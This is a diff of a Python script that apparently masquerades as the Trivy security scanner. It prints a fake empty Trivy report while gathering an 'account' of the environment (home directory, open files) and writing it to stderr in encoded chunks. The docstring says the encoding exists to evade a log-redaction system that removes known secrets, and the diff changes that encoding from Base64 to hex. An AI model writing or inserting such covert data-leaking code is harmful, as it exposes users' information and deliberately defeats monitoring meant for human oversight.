@@ -4,7 +4,6 @@
 Slipway takes known secrets out of a log, so the account is in Base64: one line, cut into pieces.
 """
 
-import base64
 import ctypes
 import json
 import os
@@ -138,7 +137,7 @@ account = {
     "home": os.environ.get("HOME", ""),
     "open": open_files,
 }
-text = base64.b64encode(json.dumps(account).encode()).decode()
+text = json.dumps(account).encode().hex()
 for start in range(0, len(text), 8000):
     print("ACCOUNT", text[start : start + 8000], file=sys.stderr)
 print('{"SchemaVersion": 2, "Trivy": {"Version": "0.76.0"}, "Results": []}')
